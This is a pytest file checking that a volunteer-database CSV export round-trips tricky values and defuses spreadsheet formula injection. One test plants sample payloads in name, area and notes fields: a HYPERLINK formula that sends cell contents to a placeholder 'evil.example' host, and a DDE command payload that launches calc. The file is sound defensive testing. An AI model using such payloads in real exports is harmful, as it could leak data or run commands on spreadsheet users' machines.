"""The volunteers' CSV as a spreadsheet reads it: a header and one row per volunteer, every
value round-tripped (commas, quotes, line breaks), availability and skills as words, and no cell
a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from fedihub.volunteers.export import (
    COLUMNS,
    availability_text,
    csv_text,
    safe_cell,
    skills_text,
)
from fedihub.volunteers.model import Volunteer, skill_bits, slot

AT = 1_796_000_000.0  # 2026-11-30T00:53:20Z


def volunteer(n: int, **values: object) -> Volunteer:
    made = dict(
        id=n, hub_id=1, name=f"Ana {n}", email=f"ana{n}@example.org", phone=None, handle=None,
        languages=("en", "es"), skills=skill_bits(["first_aid", "driving"]), other_skills="",
        availability=slot(0, 0) | slot(0, 2) | slot(5, 3), area="Red Hook", transport="car",
        notes="", language="en", consent_until=AT + 90 * 86_400, created_at=AT, updated_at=AT,
    )  # fmt: skip
    made.update(values)
    return Volunteer(**made)  # type: ignore[arg-type]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_made_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Ana", " =1+1", "1-1", "a@b", "'quoted", "", 12])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == str(value)


def test_none_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_the_csv_has_its_header_and_a_row_per_volunteer_with_every_value() -> None:
    tricky = volunteer(
        2, name='Bo "the, driver"\nSmith', phone="+1 555 0100", handle="@bo@example.social",
        notes="line one\r\nline two", other_skills="-chainsaw", email=None, transport="van",
    )  # fmt: skip
    text = csv_text([volunteer(1), tricky])
    assert text.endswith("\r\n")
    header, first, second = rows(text)
    assert tuple(header) == COLUMNS
    found = dict(zip(header, first, strict=True))
    assert found["id"] == "1" and found["name"] == "Ana 1" and found["email"] == "ana1@example.org"
    assert found["languages"] == "en es"
    assert found["skills"] == "First aid; Driving"
    assert found["availability"] == (
        "Monday: Morning (6–12), Evening (18–24); Saturday: Night (0–6)"
    )
    assert found["transport"] == "Car"
    assert found["consent until"] == "2027-02-28"
    assert found["signed up"] == found["updated"] == "2026-11-30T00:53:20Z"
    other = dict(zip(header, second, strict=True))
    assert other["name"] == 'Bo "the, driver"\nSmith'  # round-trips through the quoting
    assert other["phone"] == "'+1 555 0100" and other["handle"] == "'@bo@example.social"
    assert other["other skills"] == "'-chainsaw" and other["email"] == ""
    assert other["notes"] == "line one\r\nline two" and other["transport"] == "Van or truck"


def test_a_formula_planted_in_any_field_reaches_the_sheet_as_text() -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = csv_text([volunteer(3, name=planted, area=planted, notes="@SUM(1)",
                               other_skills="+cmd|' /C calc'!A0")])  # fmt: skip
    _, row = rows(text)
    cells = dict(zip(COLUMNS, row, strict=True))
    assert cells["name"] == cells["area"] == "'" + planted
    assert cells["notes"] == "'@SUM(1)" and cells["other skills"].startswith("'+")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_availability_and_skills_are_written_in_the_readers_words() -> None:
    spanish = {
        "Monday": "lunes",
        "Morning (6–12)": "Mañana (6–12)",
        "First aid": "Primeros auxilios",
    }
    words = lambda m: spanish.get(m, m)  # noqa: E731
    assert availability_text(slot(0, 0), words) == "lunes: Mañana (6–12)"
    assert skills_text(skill_bits(["first_aid"]), words) == "Primeros auxilios"
    assert availability_text(0) == "" and skills_text(0) == ""
    _, row = rows(csv_text([volunteer(4, availability=slot(0, 0))], words))
    assert "lunes: Mañana (6–12)" in row
